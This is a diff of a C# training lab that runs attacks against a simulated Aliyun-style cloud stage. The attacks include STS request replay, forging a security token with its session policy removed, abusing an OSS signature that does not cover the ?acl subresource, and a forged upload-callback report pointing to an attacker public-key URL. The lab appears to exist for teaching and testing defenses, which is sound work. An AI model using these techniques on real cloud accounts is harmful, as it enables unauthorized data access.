@@ -1,7 +1,9 @@
 using System.Security.Cryptography;
 using System.Text;
+using Scenario.Ram.Sessions;
 using Scenario.Signing.Oss;
 using Scenario.Trainer.Calls;
+using Scenario.Trainer.Reports;
 using Scenario.Trainer.Stages;
 
 namespace Scenario.Trainer.Attacking;
@@ -22,9 +24,9 @@ internal static class AttackLab
 
     public static IReadOnlyList<Attack> All { get; } =
     [
-        new("replay", ReplayAsync),
-        new("tamper", TamperAsync),
-        new("borrow", BorrowAsync),
+        new("replay", ReplayAsync, Nothing, Weakness.ForgetsNonces),
+        new("tamper", TamperAsync, Nothing, Weakness.BelievesClaims),
+        new("borrow", BorrowAsync, Nothing, Weakness.MixesKeyAndToken),
         new("widen", WidenAsync,
             static (stage, cancellationToken) => stage.Cloud.Ram.AttachPolicyAsync("oss-readonly", "AliyunOSSFullAccess", cancellationToken)),
         new("escape", EscapeAsync, static async (stage, cancellationToken) =>
@@ -37,8 +39,14 @@ internal static class AttackLab
             Weaken(stage);
             return Task.CompletedTask;
         }),
-        new("subresource", SubResourceAsync),
-        new("report", ForgedReportAsync),
+        new("subresource", SubResourceAsync,
+            static (stage, cancellationToken) => stage.Cloud.Ram.AttachPolicyAsync("oss-uploader", "AliyunOSSFullAccess", cancellationToken),
+            Weakness.SignsNoSubResource),
+        new("report", ForgedReportAsync, static (stage, _) =>
+        {
+            Weaken(stage);
+            return Task.CompletedTask;
+        }),
     ];
 
     private static readonly System.Runtime.CompilerServices.ConditionalWeakTable<Stage, object> Weakened = [];
@@ -46,16 +54,20 @@ internal static class AttackLab
     // The weakness of these lies in what the company wrote or packed into its app, not in the cloud.
     private static void Weaken(Stage stage) => Weakened.AddOrUpdate(stage, new object());
 
+    // The weakness is the gate's.
+    private static Task Nothing(Stage stage, CancellationToken cancellationToken) => Task.CompletedTask;
+
     private static bool IsWeak(Stage stage) => Weakened.TryGetValue(stage, out _);
 
     private static async Task<AttackOutcome> ReplayAsync(Stage stage, CancellationToken cancellationToken)
     {
         var calls = new StageCalls(stage);
-        var overheard = StageCalls.SignSts(stage.KeyOf("appServer"), "GetCallerIdentity", []);
+        var overheard = StageCalls.SignSts(stage.KeyOf("appServer"), "AssumeRole",
+            [new("RoleArn", $"acs:ram::{stage.Account}:role/oss-readonly"), new("RoleSessionName", "overheard")]);
         var first = await calls.SendStsAsync(overheard, cancellationToken);
         var again = await calls.SendStsAsync(overheard, cancellationToken);
-        return new(again.IsRefused, [("GetCallerIdentity", await new StageCalls(stage).HopOfAsync(first, cancellationToken)),
-            ("GetCallerIdentity, the same bytes", await new StageCalls(stage).HopOfAsync(again, cancellationToken))]);
+        return new(again.IsRefused, [("AssumeRole", await new StageCalls(stage).HopOfAsync(first, cancellationToken)),
+            ("AssumeRole, the same bytes", await new StageCalls(stage).HopOfAsync(again, cancellationToken))]);
     }
 
     private static async Task<AttackOutcome> TamperAsync(Stage stage, CancellationToken cancellationToken)
@@ -65,7 +77,16 @@ internal static class AttackLab
         var middle = token.Length / 2;
         var changed = token[..middle] + (token[middle] == 'A' ? 'B' : 'A') + token[(middle + 1)..];
         return await TryAsync(stage, cancellationToken,
-            ($"GET {Photo}, character {middle} changed", key with { SecurityToken = changed }, new OssAsk("GET", stage.Bucket, Photo)));
+            ($"GET {Photo}, character {middle} changed", key with { SecurityToken = changed }, new OssAsk("GET", stage.Bucket, Photo)),
+            ("GET private/salary.csv, session policy cut out, signed with a guessed key", key with { SecurityToken = WithoutPolicy(token) },
+                new OssAsk("GET", stage.Bucket, "private/salary.csv")));
+    }
+
+    private static string WithoutPolicy(string token)
+    {
+        var (claims, guess) = (TokenText.Read(token)!, RandomNumberGenerator.GetBytes(TokenKeyRing.MinimumKeyBytes));
+        return new SecurityTokenCodec(new(claims.KeyId, new Dictionary<string, byte[]> { [claims.KeyId] = guess }))
+            .Issue(claims.Session()! with { SessionPolicy = null });
     }
 
     private static async Task<AttackOutcome> BorrowAsync(Stage stage, CancellationToken cancellationToken)
@@ -129,18 +150,28 @@ internal static class AttackLab
         List<KeyValuePair<string, string>> headers = [new("Date", date), new("x-oss-security-token", key.SecurityToken!)];
         var signed = OssV1Signature.Authorization(new OssRequestToSign("PUT", stage.Bucket, Name, [], headers), key.AccessKeyId, key.AccessKeySecret);
         var ask = new OssAsk("PUT", stage.Bucket, Name) { Query = [new("acl", null)], Headers = [.. headers, new("x-oss-object-acl", "public-read")] };
-        var answer = await new StageCalls(stage).SendOssAsync(ask, [new("Authorization", signed)], cancellationToken);
-        return new(answer.IsRefused,
-            [("signed: PUT " + Name + "; sent: PUT " + Name + "?acl, public-read", await new StageCalls(stage).HopOfAsync(answer, cancellationToken))]);
+        var calls = new StageCalls(stage);
+        await stage.Cloud.Oss.PutAsync(stage.Bucket, Name, "alice's own", cancellationToken: cancellationToken); // what she has uploaded with that signature
+        var publish = await calls.SendOssAsync(ask, [new("Authorization", signed)], cancellationToken);
+        var read = await calls.OssAsync(null, new("GET", stage.Bucket, Name), cancellationToken);
+        await stage.Cloud.Oss.DeleteAsync(stage.Bucket, Name);
+        return new(publish.IsRefused && read.IsRefused,
+        [
+            ("signed: PUT " + Name + "; sent: PUT " + Name + "?acl, public-read", await calls.HopOfAsync(publish, cancellationToken)),
+            ("GET " + Name + " without any key", await calls.HopOfAsync(read, cancellationToken)),
+        ]);
     }
 
     private static async Task<AttackOutcome> ForgedReportAsync(Stage stage, CancellationToken cancellationToken)
     {
         using var forger = RSA.Create(2048);
+        await using var careless = IsWeak(stage)
+            ? await ReportDesk.StartAsync(stage, ReportRules.None, forger.ExportSubjectPublicKeyInfoPem(), cancellationToken) : null;
+        var receiver = new Uri(careless?.Address ?? stage.AppServer, ReportDesk.Path);
         var body = Encoding.ASCII.GetBytes($"bucket={stage.Bucket}&object=users%2Falice%2Finvented.jpg&etag=X&size=7&mimeType=image%2Fjpeg&ticket=guessed");
         var own = Convert.ToBase64String(Encoding.ASCII.GetBytes("http://127.0.0.1:9/evil.pem"));
         var genuine = Convert.ToBase64String(Encoding.ASCII.GetBytes(new Uri(stage.Cloud.OssEndpoint, "/_/callback_pub_key_v1.pem").AbsoluteUri));
-        var signature = Convert.ToBase64String(OssCallbackSignature.Sign("/api/callback", body, forger));
+        var signature = Convert.ToBase64String(OssCallbackSignature.Sign(ReportDesk.Path, body, forger));
         var attempts = new List<(string, Hop?)>();
         var isStopped = true;
         foreach (var (label, headers) in new (string, (string, string)[])[]
@@ -151,7 +182,7 @@ internal static class AttackLab
         })
         {
             var before = stage.Feed.LastSequence;
-            var answer = await StageCalls.PostFormAsync(new Uri(stage.AppServer, "/api/callback"), body, headers, cancellationToken);
+            var answer = await StageCalls.PostFormAsync(receiver, body, headers, cancellationToken);
             isStopped &= answer.IsRefused;
             attempts.Add((label, await stage.Feed.WaitForAsync(hop => hop.Sequence > before && hop.Host == HopHost.AppServer && hop.IsAnswered,
                 cancellationToken)));
